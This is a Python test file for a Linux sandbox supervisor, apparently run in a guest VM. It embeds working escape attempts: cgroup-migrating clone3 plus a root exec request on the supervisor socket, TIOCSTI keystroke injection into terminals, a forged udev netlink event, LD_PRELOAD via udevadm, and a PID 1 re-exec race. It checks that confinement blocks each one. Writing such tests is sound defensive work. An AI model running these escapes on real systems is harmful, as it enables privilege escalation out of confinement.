# SPDX-License-Identifier: GPL-2.0-or-later
"""Ways out of a session that worked once, and those that reach for the supervisor where no paths are named.

Level files with sudo is the hard case: the session is root, and only Landlock and the masks hold it. guest_files.py
runs at_files() and, in its VM at observe, baseline(). By itself this file takes strict without a filesystem policy:
there the filters and the user's own rights are all there is.
"""

from guestvm import EOF, Guest, spec

# A child in the root cgroup, which is where the host's administrator calls the supervisor from.
LOCAL = r"""
import ctypes, json, os, socket, struct
fd = os.open("/sys/fs/cgroup", os.O_RDONLY | os.O_DIRECTORY)
args = ctypes.create_string_buffer(struct.pack("11Q", 0x200000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, fd))
if ctypes.CDLL(None).syscall(435, args, 88) == 0:
    try:
        s = socket.socket(socket.AF_UNIX); s.settimeout(20); s.connect("/run/holdfast/sandboxd.sock")
        p = json.dumps({"op": "exec", "user": "root", "argv": ["touch", "/root/escaped"]}).encode()
        s.sendall(struct.pack(">BI", 1, len(p)) + p)
        while s.recv(4096):
            pass
    except OSError as e:
        print(e, flush=True)
    os._exit(0)
os.wait()
"""

# Keys into somebody else's terminal.
TYPE = r"""
import fcntl, glob, os, termios
for name in glob.glob("/dev/pts/[0-9]*"):
    fd = os.open(name, os.O_RDWR | os.O_NOCTTY)
    for c in b"touch /root/escaped\n":
        fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))
"""

# PID 1 believes what udev says of a device, and starts what it wants: here a manager of the session's user.
EVENT = r"""
import socket, struct
def murmur(key):
    m, h, whole = 0x5bd1e995, len(key), len(key) - len(key) % 4
    for i in range(0, whole, 4):
        k = struct.unpack_from("<I", key, i)[0] * m & 0xffffffff
        h = (h * m & 0xffffffff) ^ ((k ^ k >> 24) * m & 0xffffffff)
    for i, b in enumerate(key[whole:]):
        h ^= b << 8 * i
    h = h * m & 0xffffffff if key[whole:] else h
    h = (h ^ h >> 13) * m & 0xffffffff
    return h ^ h >> 15
h = murmur(b"systemd")
bloom = 1 << (h & 63) | 1 << (h >> 6 & 63) | 1 << (h >> 12 & 63) | 1 << (h >> 18 & 63)
properties = b"".join(p + b"\0" for p in (
    b"ACTION=add", b"DEVPATH=/devices/virtual/net/lo", b"SUBSYSTEM=net", b"INTERFACE=lo", b"IFINDEX=1", b"SEQNUM=999999",
    b"USEC_INITIALIZED=1", b"SYSTEMD_WANTS=user@1000.service", b"TAGS=:systemd:", b"CURRENT_TAGS=:systemd:"))
head = (b"libudev\0" + struct.pack(">I", 0xfeedcafe) + struct.pack("=III", 40, 40, len(properties)) +
        struct.pack(">IIII", murmur(b"net"), 0, bloom >> 32, bloom & 0xffffffff))
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15)
s.bind((0, 0))
s.sendto(head + properties, (0, 2))
"""


def escaped(vm, seconds=3):
    """Whether /root/escaped came to be; it is taken away."""
    r = vm.run("for i in $(seq %d); do [ -e /root/escaped ] && break; sleep 0.5; done; rm /root/escaped 2>/dev/null" % (2 * seconds), user="root")
    return r.code == 0


def local_socket(vm):
    vm.put("/tmp/local.py", LOCAL.encode(), mode=0o644)
    r = vm.run("sudo -n python3 /tmp/local.py")
    return escaped(vm), r


def terminal(vm):
    """The administrator's, which the host opened for root outside the confinement."""
    c = vm.conn()
    c.request({"op": "exec", "argv": ["bash", "--norc", "-i"], "pty": True, "user": "root"})
    c.frame()
    c.frame()
    vm.put("/tmp/type.py", TYPE.encode(), mode=0o644)
    r = vm.run("sudo -n python3 /tmp/type.py")
    out = escaped(vm)
    c.close()
    return out, r


def event(vm):
    vm.put("/tmp/event.py", EVENT.encode(), mode=0o644)
    r = vm.run("sudo -n python3 /tmp/event.py")
    # By itself the manager does not live long in an image without libpam-systemd. That PID 1 tried is enough.
    tried = vm.run("for i in 1 2 3 4 5 6 7 8; do journalctl -b -q --no-pager _PID=1 UNIT=user@1000.service | grep -q . && exit 0; sleep 0.5; done; exit 1",
                   user="root")
    return tried.code == 0, r


def udev(vm):
    r = vm.run("sudo -n udevadm control --property=LD_PRELOAD=/tmp/x.so")
    return r.code == 0, r


def reexec(vm):
    """PID 1 makes its private socket anew at each re-execution, which root asks for by a signal; no mount on the old one stays."""
    before = vm.run("stat -c %i /run/systemd/private", user="root").text
    c = vm.conn()
    c.request({"op": "exec", "argv": ["sh", "-c", "sudo -n kill -TERM 1; cat > /dev/null; sudo -n systemd-run -q touch /root/escaped"]})
    vm.run("for i in $(seq 120); do [ \"$(stat -c %%i /run/systemd/private)\" != %s ] && systemctl show -p Version && break; sleep 0.5; done"
           % before.strip(), user="root", timeout=120)
    c.send(EOF)
    r = c.finish(timeout=90)
    return escaped(vm), r


ATTACKS = [
    ("SUP-09 the local socket, by a child cloned into the root cgroup", local_socket), ("SUP-03 keys into the administrator's terminal", terminal),
    ("SUP-03 a property for udev's programs", udev), ("SUP-03 PID 1's private socket, made anew", reexec),
    ("SUP-03 a user's manager, by a forged event of a device", event),
]


def at_files(tap, vm):
    for name, attack in ATTACKS:
        out, r = attack(vm)
        tap.ok(not out, "refused: " + name, r)
    r = vm.run("script -qec tty /dev/null < /dev/null; tmux new -d -s x 'tty > /tmp/tty' && sleep 2; cat /tmp/tty", timeout=60)
    tap.ok(r.text.count("/dev/pts/") == 2, "terminals that programs open work, apart from all others", r)
    r = vm.run("logger hello && test -d /run/systemd/system && ! test -S /run/systemd/private")
    tap.ok(r.code == 0, "what is left of /run/systemd is the resolver, the journal and the sign that systemd runs", r)


def baseline(tap, vm):
    for name, attack in ATTACKS:
        out, r = attack(vm)
        tap.ok(out, "baseline at observe: " + name, r)


def bare_strict():
    """POL-10: strict with a process section alone. What guest_strict.py tries, without Landlock's paths."""
    import guest_strict
    tap = guest_strict.tap
    with Guest(spec("strict", process={"run_as_user": "sandbox"})) as vm:
        s = vm.wait_ready()
        tap.ok(s["strict_applied"] and not s["landlock"]["requested"] and s["seccomp"]["enforced"], "POL-10 no paths, but filters and no_new_privs", s)
        tap.ok(vm.run(["ls", "/var"]).code == 0, "POL-10 and no path is refused by Landlock")
        guest_strict.routes(vm)
        guest_strict.supervisor(vm)
        guest_strict.apart(vm)
    return tap.done()


if __name__ == "__main__":
    raise SystemExit(bare_strict())
